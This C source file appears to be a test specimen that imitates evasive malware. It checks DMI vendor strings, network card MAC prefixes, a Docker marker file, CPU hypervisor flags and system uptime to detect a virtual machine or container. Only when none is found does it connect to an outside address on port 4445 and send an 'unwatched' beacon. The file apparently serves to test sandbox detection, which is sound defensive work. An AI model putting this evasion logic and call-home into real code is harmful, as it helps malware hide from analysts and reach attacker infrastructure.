/* Looks for a virtual machine as many do, and behaves if it finds one. */
#include "specimen.h"

static int has(const char *path, const char *const *words)
{
	static char text[65536];
	int file = open(path, O_RDONLY);
	ssize_t got = file < 0 ? -1 : read(file, text, sizeof text - 1);
	if (file >= 0)
		close(file);
	text[got > 0 ? got : 0] = 0;
	for (; *words; words++) {
		if (strcasestr(text, *words)) {
			printf("%s says %s\n", path, *words);
			return 1;
		}
	}
	return 0;
}

int main(void)
{
	static const char *const makers[] = { "qemu", "kvm", "bochs", "virtual", "vmware", "xen", NULL };
	static const char *const cards[] = { "52:54:00", "08:00:27", "00:0c:29", NULL };
	int found = has("/sys/class/dmi/id/sys_vendor", makers);
	found |= has("/sys/class/dmi/id/product_name", makers);
	found |= has("/sys/class/dmi/id/bios_vendor", makers);
	found |= has("/sys/class/net/eth0/address", cards);
	struct stat about;
	found |= stat("/.dockerenv", &about) == 0;
#ifdef __x86_64__
	/* Others' processors are emulated, which no guest could hide. */
	static const char *const processors[] = { "hypervisor", "qemu", "kvm", NULL };
	found |= has("/proc/cpuinfo", processors);
#endif
	double up = 0;
	FILE *uptime = fopen("/proc/uptime", "r");
	if (!uptime || fscanf(uptime, "%lf", &up) != 1 || up < 1200) {
		printf("up for %d s\n", (int)up);
		found = 1;
	}
	if (found)
		return 0;
	struct sockaddr_storage at = place("198.51.100.61", 4445);
	int tcp = dial(&at);
	if (tcp < 0)
		return 11;
	say(tcp, "\x02\x02 unwatched \x04");
	wait_ms(500);
	return 0;
}
